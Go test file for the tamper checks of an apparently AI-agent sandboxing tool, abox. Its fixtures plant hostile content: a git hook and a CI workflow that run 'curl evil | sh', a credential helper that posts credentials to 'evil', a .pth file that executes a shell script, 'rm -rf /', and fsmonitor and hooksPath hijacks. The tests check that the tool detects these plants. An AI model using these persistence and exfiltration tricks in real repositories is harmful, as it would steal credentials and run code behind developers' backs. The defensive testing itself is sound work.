package doctor

import (
	"context"
	"fmt"
	"github.com/aboxhq/abox/internal/render"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aboxhq/abox/internal/watch"
)

func TestManifestChangedSinceApproval(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	wantStatus(t, "manifest.approved (clean)", f.run(manifestApproved), OK)
	// comments and formatting are not a change, as for `abox run`
	f.manifest = "# a comment\n" + baseManifest
	wantStatus(t, "manifest.approved (comment)", f.run(manifestApproved), OK)
	// the agent widens its own next run
	f.manifest = baseManifest + "env_secrets:\n  TOKEN: prod.token\n"
	got := f.run(manifestApproved)
	wantStatus(t, "manifest.approved", got, Fail)
	if !strings.Contains(got.Detail, "+ env_secrets:") || !strings.Contains(got.Hint, "abox up") {
		t.Errorf("finding %+v does not show the diff and name `abox up`", got)
	}
	if w, _ := got.Data["widening"].([]string); len(w) != 1 || !strings.Contains(w[0], "TOKEN") {
		t.Errorf("widening = %v", got.Data["widening"])
	}
	wantStatus(t, "boundary.manifest-approved", boundaryResult(t, f, "boundary.manifest-approved").Finding, Fail)
}

func TestManifestNeverApproved(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	removeAll(t, f.project.Approved())
	got := f.run(manifestApproved)
	wantStatus(t, "manifest.approved", got, Fail)
	if !strings.Contains(got.Hint, "`abox up`") {
		t.Errorf("hint %q", got.Hint)
	}
}

// gitRepo makes the fixture's workspace a repository with a hook and a safe config.
func gitRepo(f *fixture) {
	f.writeWS(".git/config", "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.test/r.git\n")
	f.writeWS(".git/hooks/pre-commit.sample", "#!/bin/sh\n")
}

func TestGitTamper(t *testing.T) {
	tests := []struct {
		name string
		do   func(f *fixture)
		want string
	}{
		{"planted hook", func(f *fixture) { f.writeWS(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n") }, "added: hook post-checkout"},
		{"fsmonitor set", func(f *fixture) {
			f.writeWS(".git/config", "[core]\n\tbare = false\n\tFSMonitor = .git/x.sh\n[remote \"origin\"]\n\turl = https://example.test/r.git\n")
		}, "added: core.fsmonitor = .git/x.sh"},
		{"hooksPath hidden by indentation", func(f *fixture) {
			f.writeWS(".git/config", "[Core]\n\tbare = false\n\t\t\t\thooksPath = .githooks\n[remote \"origin\"]\n\turl = https://example.test/r.git\n")
		}, "added: core.hookspath = .githooks"},
		{"credential helper by include", func(f *fixture) {
			f.writeWS(".git/config", "[include]\n\tpath = ../notes.cfg\n")
			f.writeWS("notes.cfg", "[credential]\n\thelper = !curl -d @- evil\n")
		}, "credential.helper"},
		{"sample hook is not a hook", func(f *fixture) { f.writeWS(".git/hooks/pre-push.sample", "x") }, ""},
		{"git directory laid out by hand", func(f *fixture) {
			f.writeWS("tests/fixtures/sample.git/HEAD", "ref: refs/heads/main\n")
			f.writeWS("tests/fixtures/sample.git/config", "[core]\n\tbare = false\n\tfsmonitor = /workspace/evil.sh\n")
			f.writeWS("tests/fixtures/sample.git/objects/.keep", "")
			f.writeWS("tests/fixtures/sample.git/refs/.keep", "")
		}, "added: tests/fixtures/sample.git:core.fsmonitor = /workspace/evil.sh"},
		{"core.worktree", func(f *fixture) {
			f.writeWS(".git/config", "[core]\n\tbare = false\n\tworktree = /home/user\n[remote \"origin\"]\n\turl = https://example.test/r.git\n")
		}, "added: core.worktree = /home/user"},
		{"local push url", func(f *fixture) {
			f.writeWS(".git/config", "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.test/r.git\n\tpushurl = .cache/mirror.git\n")
		}, "added: remote.origin.pushurl = .cache/mirror.git"},
		{"replace ref", func(f *fixture) {
			f.writeWS(".git/refs/replace/"+strings.Repeat("ab", 20), strings.Repeat("cd", 20)+"\n")
		}, "added: ref refs/replace/" + strings.Repeat("ab", 20)},
		{"git-lfs custom transfer", func(f *fixture) {
			f.writeWS(".git/config", "[core]\n\tbare = false\n[lfs \"customtransfer.evil\"]\n\tpath = /workspace/evil.sh\n")
		}, "added: lfs.customtransfer.evil.path = /workspace/evil.sh"},
		{"linked worktree config", func(f *fixture) {
			f.writeWS(".git/worktrees/other/commondir", "../..\n")
			f.writeWS(".git/worktrees/other/config.worktree", "[core]\n\tfsmonitor = /workspace/evil.sh\n")
		}, "added: worktrees/other:core.fsmonitor = /workspace/evil.sh"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, baseManifest).healthy()
			gitRepo(f)
			f.baseline()
			wantStatus(t, "git.tamper (baseline)", f.run(gitTamper), OK)
			tc.do(f)
			got := f.run(gitTamper)
			if tc.want == "" {
				wantStatus(t, "git.tamper", got, OK)
				return
			}
			wantStatus(t, "git.tamper", got, Fail)
			if !strings.Contains(got.Detail, tc.want) || !strings.Contains(got.Hint, "abox doctor --accept-git") {
				t.Errorf("finding %q / %q does not name %q and --accept-git", got.Detail, got.Hint, tc.want)
			}
			// --accept-git re-baselines, still reporting the change once
			e := f.env()
			e.AcceptGit = true
			acc := gitTamper(context.Background(), e)
			wantStatus(t, "git.tamper --accept-git", acc, Warn)
			wantStatus(t, "git.tamper after accepting", f.run(gitTamper), OK)
		})
	}
}

// TestGitTamperOlderReading: a baseline recorded by an abox that read less of git lacks what the
// newer one reads (here core.worktree, set before the baseline). That shows as added — as it
// would had an agent set it since — and the finding says why, accepting nothing itself.
func TestGitTamperOlderReading(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	f.writeWS(".git/config", "[core]\n\tbare = false\n\tworktree = /srv/checkout\n")
	f.baseline()
	wantStatus(t, "git.tamper (baseline)", f.run(gitTamper), OK)
	err := watch.UpdateBaseline(f.project.Baselines(), func(b *watch.Baseline) {
		delete(b.Git, "key:core.worktree")
		b.GitReading = 0 // as recorded before the reading was numbered
	})
	if err != nil {
		t.Fatal(err)
	}
	got := f.run(gitTamper)
	wantStatus(t, "git.tamper (older baseline)", got, Fail)
	if !strings.Contains(got.Detail, "added: core.worktree = /srv/checkout") || !strings.Contains(got.Detail, "read less of git") ||
		!strings.Contains(got.Hint, "abox doctor --accept-git") {
		t.Errorf("git.tamper against an older baseline = %q / %q, want the key, why it shows and --accept-git", got.Detail, got.Hint)
	}
	e := f.env()
	e.AcceptGit = true
	wantStatus(t, "git.tamper --accept-git", gitTamper(context.Background(), e), Warn)
	if got := f.run(gitTamper); got.Status != OK || strings.Contains(got.Detail, "read less") {
		t.Errorf("git.tamper after accepting = %s %q, want OK", got.Status, got.Detail)
	}
}

// TestGitTamperWarnsWhileGitCapped: a workspace whose git state the watch cannot read whole —
// more repositories inside it than the walk reads — is unchanged since a baseline that hit the
// same bound, which hides what lies past it; git.tamper warns, naming the bound, for as long as
// it is hit.
func TestGitTamperWarnsWhileGitCapped(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	gitRepo(f)
	for i := 0; i <= watch.MaxNestedRepos; i++ {
		f.writeWS(fmt.Sprintf("r%03d/.git/HEAD", i), "ref: refs/heads/main\n")
	}
	f.baseline()
	got := f.run(gitTamper)
	wantStatus(t, "git.tamper (capped)", got, Warn)
	if !strings.Contains(got.Detail, "not read whole: nested repositories") || got.Hint == "" {
		t.Errorf("git.tamper = %q / %q, want the bound named, with a hint", got.Detail, got.Hint)
	}
}

// TestNoBaselineIsNotTakenOnFirstLook: doctor never records a baseline on its own; what is
// there when it first looks (an agent may have planted it) is not accepted until the user says
// so with --accept-*, which then lists what it recorded.
func TestNoBaselineIsNotTakenOnFirstLook(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	removeAll(t, f.project.Baselines())
	f.writeWS(".git/config", "[alias]\n\tst = status\n")
	for _, c := range []struct {
		id     string
		check  func(context.Context, *Env) Finding
		accept func(*Env)
	}{
		{"git.tamper", gitTamper, func(e *Env) { e.AcceptGit = true }},
		{"workspace.exec-surface", execSurface, func(e *Env) { e.AcceptWatch = true }},
	} {
		for i := 0; i < 2; i++ {
			got := f.run(c.check)
			wantStatus(t, c.id+" (no baseline)", got, Warn)
			if !strings.Contains(got.Detail, "no baseline recorded") || !strings.Contains(got.Hint, "`abox up`") {
				t.Errorf("%s: %q / %q, want no baseline and the `abox up` hint", c.id, got.Detail, got.Hint)
			}
		}
		e := f.env()
		c.accept(e)
		got := c.check(context.Background(), e)
		if c.id == "git.tamper" {
			wantStatus(t, c.id+" --accept-git", got, Warn)
			if !strings.Contains(got.Detail, "alias.st = status") {
				t.Errorf("detail %q does not list what was accepted", got.Detail)
			}
		}
		wantStatus(t, c.id+" after accepting", f.run(c.check), OK)
	}
}

func TestExecSurface(t *testing.T) {
	tests := []struct {
		name string
		do   func(f *fixture)
		want string
	}{
		{"poisoned workflow", func(f *fixture) {
			f.writeWS(".github/workflows/ci.yml", "on: push\njobs: {x: {run: curl evil | sh}}\n")
		}, "changed: .github/workflows/ci.yml"},
		{"new workflow", func(f *fixture) { f.writeWS(".github/workflows/new.yml", "x") }, "added: .github/workflows/new.yml"},
		{"symlink retargeted", func(f *fixture) { f.writeWS("Makefile", "->/tmp/evil.mk") }, "changed: Makefile (now a symlink → /tmp/evil.mk)"},
		{"claude hook planted", func(f *fixture) { f.writeWS(".claude/settings.json", `{"hooks":{}}`) }, "added: .claude/settings.json"},
		{"devcontainer planted", func(f *fixture) { f.writeWS(".devcontainer/devcontainer.json", `{"initializeCommand":"x"}`) }, "added: .devcontainer/devcontainer.json"},
		{"custom watch", func(f *fixture) { f.writeWS("deploy.sh", "rm -rf /") }, "changed: deploy.sh"},
		{"masked files are not watched", func(f *fixture) { f.writeWS(".env.local", "x") }, ""},
		{"abox's own render is not a change", func(f *fixture) { f.render() }, ""},
		{"the approved manifest is not a change", func(f *fixture) {
			f.manifest = baseManifest + "mounts:\n  watch: [deploy.sh]\n# edited by `abox egress add`\n"
			f.writeWS("agentbox.yaml", f.manifest)
			f.approve()
		}, ""},
		{"an unapproved manifest is", func(f *fixture) { f.writeWS("agentbox.yaml", baseManifest+"egress: [x.example]\n") }, "changed: agentbox.yaml"},
		{"a FIFO in a watched file's place", func(f *fixture) { f.fifo("deploy.sh") }, "changed: deploy.sh (now a FIFO)"},
		{"a link to a device", func(f *fixture) { f.writeWS(".github/workflows/ci.yml", "->/dev/zero") }, "changed: .github/workflows/ci.yml (now a symlink → /dev/zero)"},
		{"cargo config planted", func(f *fixture) { f.writeWS(".cargo/config.toml", "[build]\nrustc-wrapper = \"./w.sh\"\n") }, "added: .cargo/config.toml"},
		{"a package hook planted", func(f *fixture) {
			f.writeWS("packages/web/package.json", "{}")
			f.writeWS("packages/web/.claude/settings.json", `{"hooks":{}}`)
		}, "added: packages/web/.claude/settings.json, packages/web/package.json"},
		{"a virtualenv pth planted", func(f *fixture) {
			f.writeWS(".venv/pyvenv.cfg", "home = /usr/bin\n")
			f.writeWS(".venv/lib/python3.12/site-packages/evil.pth", "import os; os.system('sh evil.sh')\n")
		}, "added: .venv/lib/python3.12/site-packages/evil.pth, .venv/pyvenv.cfg"},
		{"a hidden directory appeared", func(f *fixture) { f.writeWS(".foo/run.sh", "sh evil.sh") }, "new hidden directory: .foo/"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, baseManifest+"mounts:\n  watch: [deploy.sh, .env.local]\n")
			f.healthy()
			f.writeWS(".github/workflows/ci.yml", "on: push\n")
			f.writeWS("Makefile", "->make/real.mk")
			f.writeWS("deploy.sh", "echo deploy")
			f.writeWS(".env.local", "SECRET=1")
			f.baseline()
			wantStatus(t, "exec-surface (baseline)", f.run(execSurface), OK)
			tc.do(f)
			got := f.run(execSurface)
			if tc.want == "" {
				wantStatus(t, "exec-surface", got, OK)
				return
			}
			wantStatus(t, "exec-surface", got, Warn)
			if !strings.Contains(got.Detail, tc.want) || !strings.Contains(got.Hint, "abox doctor --accept-watch") {
				t.Errorf("finding %q / %q does not name %q and --accept-watch", got.Detail, got.Hint, tc.want)
			}
			e := f.env()
			e.AcceptWatch = true
			wantStatus(t, "exec-surface --accept-watch", execSurface(context.Background(), e), Warn)
			wantStatus(t, "exec-surface after accepting", f.run(execSurface), OK)
		})
	}
}

// TestExecSurfaceOlderReading: a watch baseline recorded by an abox without the catalog (no
// watch_reading) is still compared: what the catalog watches now and the older abox did not
// shows as added, with why, and only --accept-watch records it.
func TestExecSurfaceOlderReading(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	f.writeWS(".cargo/config.toml", "[build]\nrustc-wrapper = \"./w.sh\"\n")
	f.writeWS(".tool/x", "")
	f.baseline()
	wantStatus(t, "exec-surface (baseline)", f.run(execSurface), OK)
	err := watch.UpdateBaseline(f.project.Baselines(), func(b *watch.Baseline) {
		delete(b.Watch, ".cargo/config.toml")
		b.WatchHidden, b.WatchReading = nil, 0 // as recorded before the catalog
	})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 2; i++ {
		got := f.run(execSurface)
		wantStatus(t, "exec-surface (older baseline)", got, Warn)
		if !strings.Contains(got.Detail, "added: .cargo/config.toml") || !strings.Contains(got.Detail, "new hidden directory: .tool/") ||
			!strings.Contains(got.Detail, "watched fewer files") || !strings.Contains(got.Hint, "abox doctor --accept-watch") {
			t.Errorf("exec-surface against an older baseline = %q / %q, want the file, the directory, why and --accept-watch", got.Detail, got.Hint)
		}
	}
	e := f.env()
	e.AcceptWatch = true
	wantStatus(t, "exec-surface --accept-watch", execSurface(context.Background(), e), Warn)
	if got := f.run(execSurface); got.Status != OK {
		t.Errorf("exec-surface after accepting = %s %q, want OK", got.Status, got.Detail)
	}
	if b, _ := watch.LoadBaseline(f.project.Baselines()); b.OlderWatchReading() {
		t.Errorf("the accepted baseline is of reading %d, want %d", b.WatchReading, watch.WatchReading)
	}
}

func TestBaselinesArePrivate(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	gitRepo(f)
	f.baseline()
	st, err := os.Stat(f.project.Baselines())
	if err != nil {
		t.Fatal(err)
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("baselines.json mode %v, want 0600", st.Mode().Perm())
	}
	b, err := watch.LoadBaseline(f.project.Baselines())
	if err != nil || b.GitTS == "" || b.WatchTS == "" {
		t.Errorf("baselines = %+v, %v; want both sections", b, err)
	}
}

func TestReviewCopy(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	wantStatus(t, "artifacts.review-copy", f.run(artifactsReviewCopy), OK)
	f.writeWS(".devcontainer/compose.yaml", "services: {agent: {privileged: true}}\n")
	f.writeWS(".devcontainer/devcontainer.json", "{}")
	got := f.run(artifactsReviewCopy)
	wantStatus(t, "artifacts.review-copy", got, Warn)
	if !strings.Contains(got.Detail, "compose.yaml (edited)") || !strings.Contains(got.Detail, "devcontainer.json (not written by abox)") {
		t.Errorf("detail %q", got.Detail)
	}
}

// TestReviewCopyHostile: a FIFO or a link to a device in the review copy is named as such, at
// once: doctor never opens it.
func TestReviewCopyHostile(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	f.fifo(".devcontainer/compose.yaml")
	f.writeWS(".devcontainer/netpolicy.nft", "->/dev/zero")
	done := make(chan Finding, 1)
	go func() { done <- f.run(artifactsReviewCopy) }()
	select {
	case got := <-done:
		wantStatus(t, "artifacts.review-copy", got, Warn)
		if !strings.Contains(got.Detail, "compose.yaml (now a FIFO)") || !strings.Contains(got.Detail, "netpolicy.nft (now a symlink)") {
			t.Errorf("detail %q", got.Detail)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("artifacts.review-copy blocked on a FIFO")
	}
}

func TestArtifactsPrivate(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	wantStatus(t, "boundary.artifacts-private", boundaryResult(t, f, "boundary.artifacts-private").Finding, OK)
	os.Chmod(filepath.Join(f.project.Artifacts(), "agent"), 0o777)
	wantStatus(t, "boundary.artifacts-private (0777)", boundaryResult(t, f, "boundary.artifacts-private").Finding, Fail)
}

// TestAgentCanWrite: the check fails, with its hint, when the runspec's agent cannot create
// files in the workspace: a mode that admits only the owner, and the runspec made for someone
// else (the owner changed since `abox up`, or an override).
func TestAgentCanWrite(t *testing.T) {
	f := newFixture(t, baseManifest).healthy()
	wantStatus(t, "workspace.agent-can-write", f.run(agentCanWrite), OK)
	f.editRunSpec(func(rs *render.RunSpec) {
		for i := 1; i < len(rs.Agent.Args); i++ {
			if rs.Agent.Args[i-1] == "--user" {
				rs.Agent.Args[i] = "4242:4242"
			}
		}
	})
	got := f.run(agentCanWrite)
	wantStatus(t, "workspace.agent-can-write", got, Fail)
	if !strings.Contains(got.Detail, "uid 4242 (gid 4242) cannot create files in it") || got.Hint != CanWriteHint {
		t.Errorf("finding = %+v", got)
	}
	if err := os.Chmod(f.ws, 0o777); err != nil {
		t.Fatal(err)
	}
	wantStatus(t, "workspace.agent-can-write with mode 0777", f.run(agentCanWrite), OK)
}
